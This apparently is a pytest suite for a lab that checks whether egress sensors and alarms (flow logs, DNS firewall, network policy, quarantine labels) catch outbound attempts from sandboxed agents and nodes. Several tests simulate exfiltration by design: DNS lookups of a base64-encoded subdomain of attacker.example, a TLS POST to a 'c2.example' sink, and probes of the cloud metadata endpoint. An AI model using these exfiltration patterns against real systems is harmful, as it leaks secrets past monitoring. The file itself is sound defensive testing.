"""What the lab's sensors write is what the deployed filters and alarms look for: attempts set off theirs, work none."""

import json
from collections.abc import Generator

import pytest
from lab_facts import NAMES, TENANTS, blueprint

from infra.logs import FLOW_FIELDS
from infra.tripwire_table import Sensor
from sequester.eyes.chain import fired
from sequester.eyes.records import SensorRecord
from sequester.lab.lab import lab
from sequester.lab.world import World

pytestmark = [pytest.mark.lane("kernel", "root", "nft", "ip"), pytest.mark.xdist_group("lab")]

_SEND = """
import socket, sys
address, port, kind, data = sys.argv[1], int(sys.argv[2]), getattr(socket, "SOCK_" + sys.argv[3]), sys.argv[4]
s = socket.socket(socket.AF_INET, kind)
s.settimeout(float(sys.argv[5]))
try:
    s.connect((address, port))
    s.sendall(data.encode())
    print(s.recv(64))
except OSError as error:
    print(error)
"""


def send(
    world: World, place: str, address: str, port: int, kind: str = "STREAM", data: str = "canary", wait: float = 1
) -> str:
    program = ["/usr/bin/python3", "-c", _SEND, address, str(port), kind, data, str(wait)]
    return world.run(place, program, timeout=60).out


def alarms(records: list[SensorRecord]) -> set[str]:
    return {one.row.id for one in fired(blueprint().watch, NAMES, TENANTS, records)}


def fields(record: SensorRecord) -> dict[str, str]:
    return dict(zip(FLOW_FIELDS, record.message.split(" "), strict=True))


@pytest.fixture(scope="module")
def world() -> Generator[World]:
    with lab(blueprint().facts) as world:
        yield world


def test_work_sets_nothing_off(world: World) -> None:
    """Nodes call their endpoints and S3, agents the door's endpoint by name: as in any hour."""
    mark = world.mark()
    for endpoint in ("ec2", "ecr.api", "logs"):
        send(world, "sandbox-node", world.place(f"endpoint:{endpoint}").addresses[0], 443, wait=20)
    assert "canary" in send(world, "sandbox-node", "198.51.100.1", 443, wait=20)
    assert world.gateway.saw(b"canary")
    named = world.run("research-agent", ["getent", "ahostsv4", "lambda.us-east-1.amazonaws.com"]).out
    assert world.place("endpoint:lambda").addresses[0] in named
    send(world, "research-agent", world.place("endpoint:lambda").addresses[0], 443, wait=20)
    records = world.records(mark)
    assert {one.sensor for one in records} == {Sensor.FLOW, Sensor.RESOLVER}
    assert alarms(records) == set()
    paths = {f["traffic-path"] for f in map(fields, _flows(records)) if f["flow-direction"] == "egress"}
    assert paths == {"1", "7"}


def _flows(records: list[SensorRecord]) -> list[SensorRecord]:
    return [one for one in records if one.sensor is Sensor.FLOW]


def test_a_pod_is_seen_by_the_policy_agent_and_by_nobody_else(world: World) -> None:
    mark = world.mark()
    send(world, "research-sandbox", "203.0.113.9", 443)
    records = world.records(mark)
    assert {one.sensor for one in records} == {Sensor.POLICY_AGENT}
    own = world.place("research-sandbox").addresses[0]
    assert f";SIP: {own};" in records[0].message
    assert ";DIP: 203.0.113.9;DPORT: 443;PROTOCOL: TCP;PolicyVerdict: DENY;" in records[0].message
    assert alarms(records) == {"policy-denied"}


@pytest.mark.parametrize(("kind", "port"), [("STREAM", 8443), ("DGRAM", 53)])
def test_a_node_is_seen_by_the_flow_log(world: World, kind: str, port: int) -> None:
    mark = world.mark()
    send(world, "sandbox-node", "203.0.113.9", port, kind)
    records = world.records(mark)
    assert alarms(records) == {"packet-rejected"}
    seen = fields(records[0])
    assert (seen["action"], seen["flow-direction"], seen["pkt-dstaddr"]) == ("REJECT", "egress", "203.0.113.9")
    assert seen["instance-id"] == world.place("sandbox-node").instance
    assert seen["srcaddr"] == world.place("sandbox-node").addresses[0]


def test_a_name_is_seen_by_the_resolver(world: World) -> None:
    mark = world.mark()
    assert not world.run("sandbox-node", ["getent", "ahostsv4", "c2VjcmV0.attacker.example"]).out
    records = world.records(mark)
    assert {one.sensor for one in records} == {Sensor.RESOLVER}
    said = json.loads(records[0].message)
    assert (said["query_name"], said["firewall_rule_action"]) == ("c2VjcmV0.attacker.example.", "BLOCK")
    assert said["srcids"]["instance"] == world.place("sandbox-node").instance
    assert alarms(records) == {"name-blocked"}
    assert not world.sink.saw(b"c2VjcmV0")


def test_metadata_is_seen_by_nobody(world: World) -> None:
    """As the sensor matrix says: flow logs leave it out."""
    mark = world.mark()
    assert "401" in send(world, "sandbox-node", "169.254.169.254", 80, data="GET / HTTP/1.1\r\n\r\n", wait=20)
    assert world.records(mark) == []


def test_the_primary_address_hides_the_pods(world: World) -> None:
    """Only the pkt- fields tell which pod it was."""
    mark = world.mark()
    endpoint = world.place("endpoint:lambda").addresses[0]
    send(world, "research-agent", endpoint, 443, wait=20)
    seen = map(fields, _flows(world.records(mark)))
    sent = next(f for f in seen if (f["flow-direction"], f["pkt-dstaddr"]) == ("egress", endpoint))
    assert sent["srcaddr"] == world.place("system-node").addresses[0]
    assert sent["pkt-srcaddr"] == world.place("research-agent").addresses[0]


def test_without_layers_the_other_tripwires_fire() -> None:
    with lab(blueprint().facts, ["security-group", "nacl", "routes", "dns-firewall"]) as world:
        mark = world.mark()
        assert "canary" in send(world, "sandbox-node", "203.0.113.9", 8443, wait=20)
        named = world.run("sandbox-node", ["getent", "ahostsv4", "c2VjcmV0.attacker.example"]).out
        assert "203.0.113.10" in named
        assert world.sink.saw(b"c2VjcmV0")
        records = world.records(mark)
        assert alarms(records) == {"packet-left", "name-unlisted"}
        assert {f["traffic-path"] for f in map(fields, _flows(records)) if f["flow-direction"] == "egress"} == {"8"}


def test_a_label_cuts_an_agent_off(world: World) -> None:
    """What the responder's label does on a real cluster: policies only add, so this one stops selecting the pod."""
    address = world.place("endpoint:lambda").addresses[0]
    reset = send(world, "support-agent", address, 443, wait=20)
    assert "timed out" not in reset
    world.label("support-agent", {"sequester.dev/quarantine": "true"})
    mark = world.mark()
    assert "timed out" in send(world, "support-agent", address, 443)
    assert alarms(world.records(mark)) == {"policy-denied"}
    world.label("support-agent", {})
    assert "timed out" not in send(world, "support-agent", address, 443, wait=20)


def test_tls_is_read_at_the_sink() -> None:
    with lab(blueprint().facts, ["security-group", "nacl", "routes"]) as world:
        program = (
            "import ssl, socket, sys\n"
            "context = ssl.create_default_context(cafile=sys.argv[1])\n"
            "plain = socket.create_connection(('203.0.113.7', 443), 20)\n"
            "s = context.wrap_socket(plain, server_hostname='c2.example')\n"
            "s.sendall(b'POST /inside-tls HTTP/1.1\\r\\n\\r\\n'); print(s.recv(99))"
        )
        ran = world.run("sandbox-node", ["/usr/bin/python3", "-c", program, world.trust], timeout=60)
        assert "200 OK" in ran.out, ran
        (seen,) = world.sink.saw(b"inside-tls")
        assert (seen.kind, seen.server_name, seen.target, seen.port) == ("tls", "c2.example", "203.0.113.7", 443)
